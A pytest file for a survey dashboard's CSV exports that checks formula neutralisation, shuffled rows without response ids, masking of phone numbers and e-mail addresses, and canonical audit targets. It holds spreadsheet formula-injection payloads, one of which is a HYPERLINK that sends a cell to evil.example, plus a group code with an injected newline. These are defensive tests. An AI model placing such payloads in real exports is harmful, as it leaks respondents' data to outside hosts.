"""Exports under the insider threat model: no stable response id, shuffled rows, neutralised
formulas in every CSV, masked free text, the group's own code in the audit target."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from survey.dashboard import exports
from survey.extensions import db
from survey.models import AuditEvent

from .dashboard_support import MONDAY, add_group, add_responses, add_user, log_in

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&B2,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def rows_of(client, url: str) -> list[dict[str, str]]:
    reply = client.get(url)
    assert reply.status_code == 200, reply.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(reply.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_that_start_a_formula_are_neutralised(value: str) -> None:
    text = exports.csv_text(["a", "b"], [{"a": value, "b": 2.5}, {"a": -1.5, "b": "plain"}])
    row, numbers = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["a"] == "'" + value.replace("\r", "\n")  # a bare CR would break the row: it becomes a newline
    assert numbers == {"a": "-1.5", "b": "plain"}  # numbers stay numbers


def test_a_formula_comment_is_inert_in_the_response_export(app, client) -> None:
    with app.app_context():
        group = add_group("GRPA", k=3)
        add_responses(group, MONDAY, [{"craving_now": 3.0, "comment": c} for c in FORMULAS[:4]])
        log_in(client, app, add_user("admin"))
    rows = rows_of(client, "/groups/GRPA/dashboard/responses.csv?text=1")
    assert sorted(r["checkin.comment"] for r in rows) == sorted("'" + c for c in FORMULAS[:4])


def test_response_export_has_row_numbers_not_ids_and_masks_contacts(app, client) -> None:
    with app.app_context():
        group = add_group("GRPA", k=3)
        add_responses(group, MONDAY, [{"craving_now": float(v)} for v in range(9)])
        add_responses(group, MONDAY, [{"craving_now": 1.0, "comment": "call 555-123-4567 or me@example.org"}])
        log_in(client, app, add_user("admin"))
    orders = set()
    for _ in range(6):
        rows = rows_of(client, "/groups/GRPA/dashboard/responses.csv?text=1")
        assert "response" not in rows[0]
        assert [r["row"] for r in rows] == [str(n) for n in range(1, 11)]
        orders.add(tuple(r["checkin.craving.score"] + r.get("checkin.comment", "") for r in rows))
    assert len(orders) > 1  # rows come in a new order within the meeting in each export
    (comment,) = [r["checkin.comment"] for r in rows if r["checkin.comment"]]
    assert "555-123-4567" not in comment and "me@example.org" not in comment
    assert "[phone removed]" in comment and "[e-mail removed]" in comment


@pytest.mark.parametrize("route", ["export.csv", "responses.csv", "codebook.csv"])
def test_export_audit_target_is_the_groups_own_code(app, client, route: str) -> None:
    with app.app_context():
        group = add_group("PRODA", k=3)
        add_responses(group, MONDAY, [{"craving_now": 3.0}] * 3)
        log_in(client, app, add_user("admin"))
    assert client.get(f"/groups/proda/dashboard/{route}").status_code == 200
    odd = client.get(f"/groups/PRODA%0A/dashboard/{route}")
    assert odd.status_code in (200, 404)
    with app.app_context():
        targets = {e.target for e in db.session.query(AuditEvent).filter_by(action="export")}
    assert targets <= {"group:PRODA"}


def test_the_privacy_notice_says_admins_can_export_row_level_answers(client) -> None:
    page = client.get("/privacy").get_data(as_text=True)
    assert "administrators can export" in page.lower()


def test_the_response_export_holds_released_answers_only(app, client) -> None:
    with app.app_context():
        group = add_group("GRPA", k=3)
        add_responses(group, MONDAY, [{"craving_now": 3.0}] * 3)  # weeks ago: released
        add_responses(group, dt.date.today(), [{"craving_now": 9.0}])  # today's meeting is still open
        log_in(client, app, add_user("admin"))
    rows = rows_of(client, "/groups/GRPA/dashboard/responses.csv")
    assert [(r["meeting_date"], r["checkin.craving_now"]) for r in rows] == [(MONDAY.isoformat(), "3.0")] * 3
